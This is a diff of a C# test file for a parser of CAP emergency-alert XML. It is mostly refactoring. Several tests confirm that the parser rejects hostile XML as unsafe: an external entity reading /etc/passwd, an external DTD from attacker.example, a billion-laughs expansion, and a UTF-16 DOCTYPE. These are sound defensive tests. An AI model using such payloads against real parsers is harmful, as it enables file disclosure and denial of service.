@@ -1,6 +1,5 @@
 using System.Text;
 using FunctionsApp.Platform;
-using FunctionsApp.Platform.Facts;
 using FunctionsApp.Platform.Http;
 using FunctionsApp.Warnings;
 
@@ -13,12 +12,14 @@ public class CapSignalTests
         <alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">
           <identifier>A-17</identifier><sender>stats@sz.example</sender><sent>2026-03-02T09:00:00+08:00</sent>
           <status>Actual</status><msgType>Alert</msgType><scope>Public</scope>
-          <info><language>en-US</language><category>Other</category><event>Orders fall</event><urgency>Future</urgency><severity>Severe</severity><certainty>Possible</certainty>
+          <info><language>en-US</language><category>Other</category><event>Orders fall</event><urgency>Future</urgency>
+            <severity>Severe</severity><certainty>Possible</certainty>
             <expires>2026-03-09T09:00:00+08:00</expires><headline>IT orders fall</headline><description>By a third.</description>
             <parameter><valueName>sector</valueName><value>it</value></parameter>
             <parameter><valueName>value</valueName><value>-30.5</value></parameter>
             <area><areaDesc>Nanshan</areaDesc><geocode><valueName>GB/T 2260</valueName><value>440305</value></geocode></area></info>
-          <info><language>zh-CN</language><category>Other</category><event>订单下降</event><urgency>Future</urgency><severity>Severe</severity><certainty>Possible</certainty>
+          <info><language>zh-CN</language><category>Other</category><event>订单下降</event><urgency>Future</urgency>
+            <severity>Severe</severity><certainty>Possible</certainty>
             <expires>2026-03-09T09:00:00+08:00</expires><headline>信息技术业订单下降</headline><description>下降三成。</description></info>
         </alert>
         """;
@@ -39,12 +40,13 @@ public class CapSignalTests
     [Fact]
     public void Read_OwnDocument_GivesItsContentBack()
     {
-        var message = Sample.Decide(Sample.Verified(WarningLevel.Red), new PublishWarning("test")).Message!;
+        var message = Sample.Published(WarningLevel.Red).Messages[0];
 
-        var signal = CapSignal.Read(CapDocument.Write(message, new Uri("https://hts.example/")), CapStatus.Actual);
+        var signal = CapSignal.Read(CapDocument.Write(message, [], new Uri("https://hts.example/")), CapStatus.Actual);
 
-        Assert.Equal(message.Texts, signal.Texts);
-        Assert.Equal((message.Level, message.Sector, message.District, message.Value), (signal.Level, signal.Sector, signal.District, signal.Value));
+        Assert.Equal(
+            (message.Wording, message.Level, message.Scope), (signal.Wording, signal.Level, new Scope(signal.Sector, signal.District)));
+        Assert.Equal(message.Evidence, new Evidence(signal.Indicator, signal.Value, signal.Urgency, signal.Certainty));
     }
 
     [Theory]
@@ -52,26 +54,31 @@ public class CapSignalTests
     [InlineData("severity>Severe", WarningLevel.Orange)]
     [InlineData("severity>Moderate", WarningLevel.Yellow)]
     [InlineData("severity>Minor", WarningLevel.Blue)]
-    public void Read_Severity_GivesTheLevel(string severity, WarningLevel level) => Assert.Equal(level, Read(Valid.Replace("severity>Severe", severity)).Level);
+    public void Read_Severity_GivesTheLevel(string severity, WarningLevel level) =>
+        Assert.Equal(level, Read(Valid.Replace("severity>Severe", severity)).Level);
 
     [Fact]
     public void Read_ExternalEntity_IsUnsafe() => Assert.Equal("unsafe-xml",
         Slug(Valid.Replace("<alert", "<!DOCTYPE alert [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<alert").Replace("A-17", "&x;")));
 
     [Fact]
-    public void Read_ExternalDtd_IsUnsafe() => Assert.Equal("unsafe-xml", Slug(Valid.Replace("<alert", "<!DOCTYPE alert SYSTEM \"http://attacker.example/x.dtd\">\n<alert")));
+    public void Read_ExternalDtd_IsUnsafe() =>
+        Assert.Equal("unsafe-xml", Slug(Valid.Replace("<alert", "<!DOCTYPE alert SYSTEM \"http://attacker.example/x.dtd\">\n<alert")));
 
     [Fact]
     public void Read_BillionLaughs_IsUnsafeAndCheap()
     {
-        var entities = string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY l{i} \"{string.Concat(Enumerable.Repeat($"&l{i - 1};", 10))}\">"));
-        Assert.Equal("unsafe-xml", Slug(Valid.Replace("<alert", $"<!DOCTYPE alert [<!ENTITY l0 \"lol\">{entities}]>\n<alert").Replace("A-17", "&l9;")));
+        var entities = string.Concat(
+            Enumerable.Range(1, 9).Select(i => $"<!ENTITY l{i} \"{string.Concat(Enumerable.Repeat($"&l{i - 1};", 10))}\">"));
+        Assert.Equal("unsafe-xml", Slug(
+            Valid.Replace("<alert", $"<!DOCTYPE alert [<!ENTITY l0 \"lol\">{entities}]>\n<alert").Replace("A-17", "&l9;")));
     }
 
     [Fact]
     public void Read_DoctypeInUtf16_IsUnsafe()
     {
-        var document = Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("<!DOCTYPE alert [<!ENTITY x 'y'>]><alert>&x;</alert>")).ToArray();
+        var text = Encoding.Unicode.GetBytes("<!DOCTYPE alert [<!ENTITY x 'y'>]><alert>&x;</alert>");
+        byte[] document = [.. Encoding.Unicode.GetPreamble(), .. text];
         Assert.Equal("unsafe-xml", Assert.Throws<ProblemException>(() => CapSignal.Read(document, CapStatus.Actual)).Type.Slug);
     }
 
@@ -85,7 +92,8 @@ public class CapSignalTests
     [InlineData("<valueName>sector", "<valueName>branch", "unsupported-cap")]
     [InlineData("<identifier>A-17</identifier>", "", "unsupported-cap")]
     [InlineData("2026-03-09T09:00:00+08:00", "tomorrow", "unsupported-cap")]
-    public void Read_Broken_SaysWhat(string part, string replacement, string slug) => Assert.Equal(slug, Slug(Valid.Replace(part, replacement)));
+    public void Read_Broken_SaysWhat(string part, string replacement, string slug) =>
+        Assert.Equal(slug, Slug(Valid.Replace(part, replacement)));
 
     private static Signal Read(string document) => CapSignal.Read(Encoding.UTF8.GetBytes(document), CapStatus.Actual);
 
